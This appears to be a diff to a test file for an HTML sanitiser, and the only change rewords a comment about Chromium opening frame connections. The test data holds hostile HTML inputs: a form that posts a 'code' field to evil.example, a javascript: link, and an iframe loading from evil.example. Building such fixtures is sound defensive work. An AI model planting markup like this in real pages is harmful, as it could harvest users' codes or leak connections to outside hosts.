@@ -41,7 +41,7 @@ HOSTILE = """
 <form action="https://evil.example/form"><input name="code"><button>Show my message</button></form>
 <a href="javascript:document.title = 'ran'" id="trap">more</a>
 """
-# Chromium opens a connection for a frame before it finds that the policy forbids it: only the sanitiser keeps that quiet.
+# Chromium connects for a frame before it finds that the policy forbids it: only the sanitiser keeps that quiet.
 FRAME = '<iframe src="https://evil.example/frame"></iframe>'
 
 
